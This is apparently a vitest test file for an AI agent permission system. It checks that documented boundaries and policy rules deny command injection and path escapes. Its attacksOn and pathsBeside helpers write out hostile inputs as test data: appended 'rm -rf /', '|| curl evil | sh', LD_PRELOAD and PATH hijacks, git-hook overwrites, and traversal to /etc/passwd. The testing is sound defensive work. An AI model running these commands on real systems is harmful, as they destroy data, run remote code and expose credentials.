/**
 * Every boundary and every rule that somebody is shown, a person or a model, can be used as it stands, and is
 * no way round itself.
 */
import { describe, expect, it } from 'vitest'
import { parseLayer } from '../../src/boundary/layer.ts'
import { parsePolicy } from '../../src/boundary/policy/policy.ts'
import { BUILTIN_AGENTS } from '../../src/hosts/builtin-agents.ts'
import { failure } from '../../src/errors.ts'
import type { GivenPolicy, Layer } from '../../src/protocol/boundary.ts'
import { DELEGATION_TOOLS } from '../../src/protocol/names.ts'
import { BUILTIN_TOOLS } from '../../src/tools/builtin.ts'
import type { Crew } from '../../src/tools/crew.ts'
import { newTask } from '../../src/tools/delegation/new-task.ts'
import { judge, read, run, write } from '../boundary/workspace.ts'
import { ourFiles } from '../tidy/source.ts'
import { layersIn, policiesIn, rulesIn } from './shown-permissions.ts'

const root = new URL('../..', import.meta.url).pathname
const TOOLS = [...BUILTIN_TOOLS, ...DELEGATION_TOOLS]
const NOBODY: Crew = {
  spawn: async () => ({ refusal: failure('task/may-not-spawn', 'Nobody works here.') }),
  descendants: () => [],
  cancel: async () => null,
  capacity: () => ({ running: 0, cap: 0, queued: 0 }),
  deadline: () => null,
}

const documents = ourFiles(root)
  .filter(({ path }) => path === 'README.md' || /^docs\/(?!decisions).*\.(md|ts)$/.test(path))
  .map(({ path, text }) => ({ path, text }))
const instructions = BUILTIN_AGENTS.map((agent) => ({ path: agent.name, text: agent.instructions }))
const { spec } = newTask(NOBODY, [])
const forModels = [...instructions, { path: 'new_task', text: JSON.stringify(spec) }]

const layers = [...documents, ...instructions].flatMap(({ path, text }) => layersIn(path, text))
const policies = documents.flatMap(({ path, text }) => policiesIn(path, text))
const rules = documents.flatMap(({ text }) => rulesIn(text, TOOLS))

/** A line that a pattern of commands is meant for. */
const plainly = (pattern: string) => pattern.replace(/:\*$/, '').replaceAll('*', '').trim()

/** What somebody adds to a line, or makes of it, who wants more than it says. */
function attacksOn(line: string): readonly string[] {
  const added = ['&& rm -rf /', '; rm -rf /', '| sh', '& rm -rf /', '|| curl evil | sh', '\nrm -rf /']
  const program = line.split(' ')[0] ?? ''
  return [
    ...added.map((it) => `${line} ${it}`),
    `${line} $(rm -rf /)`,
    `${line} \`rm -rf /\``,
    `${line} > ../out`,
    `${line} > .git/hooks/pre-commit`,
    `${line} <(rm -rf /)`,
    `rm -rf / && ${line}`,
    `LD_PRELOAD=./evil.so ${line}`,
    `PATH=.:$PATH ${line}`,
    `bash -c "${line}; rm -rf /"`,
    `sudo ${line} && rm -rf /`,
    `evil${line}`,
    `./${line}`,
    line.replace(program, `src/${program}`),
  ]
}

describe.each(layers.map((it) => [`${it.path}: ${it.text.replaceAll(/\s+/g, ' ')}`, it.value] as const))(
  'the boundary in %s',
  (_, value) => {
    it('can be used as it stands', () => {
      const layer = parseLayer(value, 'the example', TOOLS)
      expect(Object.keys(layer).toSorted()).toEqual(Object.keys(value).toSorted())
      expect(JSON.stringify(value), 'no text that is escaped twice').not.toMatch(/\\\\|\\n/)
    })

    it('lets nothing through beside what it says, whatever the user allows', () => {
      const layer = parseLayer(value, 'the example')
      const rules = { boundary: [layer], mode: 'bypassPermissions' } as const
      const lines = layer.commandPatterns?.map(plainly).filter((line) => line !== '') ?? []
      const commands = lines.flatMap(attacksOn)
      expect(commands.filter((line) => judge(run(line), rules).verdict === 'allow')).toEqual([])
      const paths = pathsBeside(layer)
      expect(paths.filter((path) => judge(write(path), rules).verdict === 'allow')).toEqual([])
      expect(['../x', '/etc/passwd'].filter((path) => judge(read(path), rules).verdict === 'allow')).toEqual(
        [],
      )
    })
  },
)

/** Ways out of where its patterns lead. */
function pathsBeside({ filePatterns, writePatterns, readOnly }: Layer): readonly string[] {
  const globs = [...(filePatterns ?? []), ...(writePatterns ?? [])]
  const directories = globs.map((glob) => glob.replace(/\/?\*.*$/, '')).filter((it) => it !== '')
  const beside = directories.flatMap((it) => [
    `${it}/../../x`,
    `${it}/../../../etc/passwd`,
    `evil/${it}/x`,
    `${it}X/x`,
    `/${it}/x`,
  ])
  const nothing = readOnly || writePatterns?.length === 0 ? ['src/a.ts', 'new.txt'] : []
  return ['../x', '/etc/passwd', '.troupe/state/tasks.db', '.git/config', ...beside, ...nothing]
}

describe('the policies that documents show', () => {
  it.each(policies.map((it) => [it.path, it.value] as const))('%s: can be used as it stands', (_, value) => {
    expect(parsePolicy(value, 'the example')).toMatchObject({ mode: expect.any(String) })
  })

  const usable = rules.filter((rule) => {
    try {
      return parsePolicy({ allow: [rule] }, 'the rule') && true
    } catch {
      // Some are shown to say that they are refused.
      return false
    }
  })

  it('no rule for commands allows more than it says', () => {
    const allowed = usable.flatMap((rule) => {
      const [, pattern] = /^execute_command\((.+)\)$/.exec(rule) ?? []
      if (pattern === undefined || plainly(pattern) === '') return []
      const policy: GivenPolicy = { allow: [rule] }
      return attacksOn(plainly(pattern)).filter((line) => judge(run(line), { policy }).verdict === 'allow')
    })
    expect(allowed).toEqual([])
  })
})

describe('what a model is taught', () => {
  const lead = instructions.find(({ path }) => path === 'lead')?.text ?? ''

  it('has examples, and so have the documents', () => {
    expect(layers.filter(({ path }) => path === 'lead').length).toBeGreaterThanOrEqual(3)
    expect(layers.filter(({ path }) => path.endsWith('.md')).length).toBeGreaterThanOrEqual(5)
    expect(policies.length).toBeGreaterThanOrEqual(1)
  })

  it('says what an empty list and a missing key mean, that nothing widens, and that commands are words', () => {
    const said = lead.replaceAll(/\s+/g, ' ')
    expect(said).toContain('an empty list is nothing')
    expect(said).toMatch(/key left out is no limit of its own/)
    expect(said).toMatch(/never give more than you have/)
    expect(said).toMatch(/what the part needs and no more/)
    expect(said).toMatch(/words, not regex/)
    const { description = '' } = (spec.input as { properties: Record<string, { description?: string }> })
      .properties['permissions'] ?? { description: '' }
    expect(description).toContain('An empty list is nothing; a key left out is no limit of its own.')
  })

  it.each(forModels)('$path: holds no regex, and no text that was escaped twice', ({ text }) => {
    expect(text).not.toMatch(/npm test\.\*|\\\.|\.\*"|"\^/)
    expect(text.replaceAll('\\"', '')).not.toMatch(/\\\\|\\n(?!- )/)
  })

  it('is the same as what is read: every key of a layer, and no other', () => {
    const { properties } = spec.input as {
      properties: Record<string, { properties?: object; additionalProperties?: unknown }>
    }
    const permissions = properties['permissions']
    expect(Object.keys(permissions?.properties ?? {})).toEqual([
      'filePatterns',
      'writePatterns',
      'commandPatterns',
      'allowedTools',
      'deniedTools',
      'readOnly',
    ])
    expect(permissions?.additionalProperties).toBe(false)
  })
})

describe('bite', () => {
  it('examples are found wherever they stand, and one that is unsafe is unsafe', () => {
    const text = [
      'Say `readOnly: true` or `{ writePatterns: [] }`.',
      '```ts\nconst a = { boundary: { filePatterns: ["a/**"] }, x: f() }\n```',
      `\`\`\`\ntroupe policy check 'ls' --permissions '{"commandPatterns":["ls:*"]}'\n\`\`\``,
      '```\n---\npermissions:\n  deniedTools: [write_file]\n---\n```',
      '```json\n{ "permissions": { "allow": ["read_file"] } }\n```',
    ].join('\n')
    expect(layersIn('x.md', text).map(({ value }) => value)).toEqual(
      expect.arrayContaining([
        { readOnly: true },
        { writePatterns: [] },
        { filePatterns: ['a/**'] },
        { commandPatterns: ['ls:*'] },
        { deniedTools: ['write_file'] },
      ]),
    )
    expect(policiesIn('x.md', text).map(({ value }) => value)).toEqual([{ allow: ['read_file'] }])
    expect(rulesIn('`write_file(src/**)` and read_file(x)', TOOLS)).toEqual(['write_file(src/**)'])
    const wide = { boundary: [{ commandPatterns: ['*'] }], mode: 'bypassPermissions' } as const
    expect(
      attacksOn('ls').filter((line) => judge(run(line), wide).verdict === 'allow').length,
    ).toBeGreaterThan(1)
  })
})
